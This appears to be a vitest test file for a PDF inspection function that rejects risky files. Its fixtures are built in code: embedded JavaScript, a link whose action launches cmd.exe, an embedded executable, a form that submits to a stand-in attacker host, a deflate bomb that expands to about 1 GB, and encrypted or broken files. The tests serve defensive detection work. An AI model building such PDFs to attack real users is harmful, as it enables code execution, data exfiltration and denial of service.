import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { describe, expect, it } from 'vitest';
import { deflatedZeros } from '../testing/zip-bombs.ts';
import { testPdf } from '../testing/pdf-files.ts';
import { judgePdf } from './pdf-inspection.ts';
import { GUARD_MS } from '../../core/testing/guard.ts';

const ALERT = 'app.alert("hi")';

/** A pdf-lib document with `change` applied, saved with or without object streams. */
async function pdfWith(change: (doc: PDFDocument) => void, useObjectStreams = true): Promise<Uint8Array> {
  const doc = await PDFDocument.load(await testPdf());
  change(doc);
  return doc.save({ useObjectStreams });
}

/** A hand-written PDF whose only object stream holds `streamData` under `dictionary`. */
function pdfWithObjectStream(dictionary: string, streamData: Buffer): Buffer {
  return Buffer.concat([
    Buffer.from(`%PDF-1.7\n1 0 obj\n<< ${dictionary} /Length ${streamData.length} >>\nstream\n`, 'latin1'),
    streamData,
    Buffer.from('\nendstream\nendobj\ntrailer\n<< /Root 2 0 R >>\n%%EOF\n', 'latin1'),
  ]);
}

describe('judgePdf', () => {
  it('keeps a normal PDF with text, with and without object streams', async () => {
    expect([await judgePdf(await testPdf()), await judgePdf(await testPdf({ objectStreams: true }))]).toEqual([undefined, undefined]);
  });

  it('refuses the same OpenAction JavaScript in a plain object and inside a compressed object stream', async () => {
    const plain = await testPdf({ openActionScript: ALERT });
    const hidden = await testPdf({ openActionScript: ALERT, objectStreams: true });
    // In the object stream, not a byte of the script or its action names is readable as is.
    expect(Buffer.from(hidden).toString('latin1')).not.toMatch(/JavaScript|app\.alert/);
    expect([await judgePdf(plain), await judgePdf(hidden)]).toEqual(['pdf_script', 'pdf_script']);
  });

  it.each<[string, (doc: PDFDocument) => void]>([
    ['a script in the /Names tree', (doc) => {
      const script = doc.context.register(doc.context.obj({ S: 'JavaScript', JS: PDFString.of(ALERT) }));
      doc.catalog.set(PDFName.of('Names'), doc.context.obj({ JavaScript: doc.context.obj({ Names: [PDFString.of('init'), script] }) }));
    }],
    ['a launch action on a link', (doc) => {
      const link = doc.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 100, 100], A: { S: 'Launch', F: PDFString.of('cmd.exe') } });
      doc.getPage(0).node.set(PDFName.of('Annots'), doc.context.obj([doc.context.register(link)]));
    }],
    ['an embedded file', (doc) => {
      const file = doc.context.register(doc.context.stream('MZ', { Type: 'EmbeddedFile' }));
      doc.catalog.set(PDFName.of('Names'), doc.context.obj({ EmbeddedFiles: { Names: [PDFString.of('a.exe'), { Type: 'Filespec', EF: { F: file } }] } }));
    }],
    ['page additional actions', (doc) => {
      doc.getPage(0).node.set(PDFName.of('AA'), doc.context.obj({ O: { S: 'URI', URI: PDFString.of('https://example.cn') } }));
    }],
    ['a form that submits itself', (doc) => {
      doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj({ S: 'SubmitForm', F: PDFString.of('https://evil.example') }));
    }],
  ])('refuses %s, also inside object streams', async (_label, change) => {
    expect([await judgePdf(await pdfWith(change, false)), await judgePdf(await pdfWith(change, true))]).toEqual(['pdf_script', 'pdf_script']);
  });

  it('refuses a PDF it cannot parse: garbage after the header, a file cut in half, no page', async () => {
    const whole = await testPdf();
    expect([
      await judgePdf(Buffer.from('%PDF-1.4\ngarbage that only looks like a PDF\n%%EOF\n')),
      await judgePdf(whole.subarray(0, whole.length / 2)),
      await judgePdf(Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n')),
    ]).toEqual(['unreadable', 'unreadable', 'unreadable']);
  });

  it('refuses an encrypted PDF, whose object streams cannot be read', async () => {
    const encrypted = await pdfWith((doc) => {
      doc.context.trailerInfo.Encrypt = doc.context.register(doc.context.obj({ Filter: 'Standard', V: 2, R: 3, Length: 128, P: -4 }));
    });
    expect(await judgePdf(encrypted)).toBe('encrypted');
  });

  it('refuses quickly an object stream that inflates to 1 GB, its name escaped or not, before pdf-lib decodes it', async () => {
    const bomb = Buffer.concat([Buffer.from([0x78, 0x9c]), deflatedZeros(1024)]);
    expect([
      await judgePdf(pdfWithObjectStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', bomb)),
      await judgePdf(pdfWithObjectStream('/Type /Obj#53tm /N 1 /First 4 /Filter /Fl#61teDecode', bomb)),
      await judgePdf(pdfWithObjectStream('/Type /XRef /Size 3 /W [1 2 1] /Filter /FlateDecode', bomb)),
    ]).toEqual(['zip_bomb', 'zip_bomb', 'zip_bomb']);
  }, GUARD_MS);

  it('refuses object streams under filters that expand without a useful bound', async () => {
    expect(await judgePdf(pdfWithObjectStream('/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode', Buffer.from([0x80, 0x0b, 0x60, 0x50, 0x22, 0x0c, 0x0c, 0x85, 0x01])))).toBe('unreadable');
  });
});
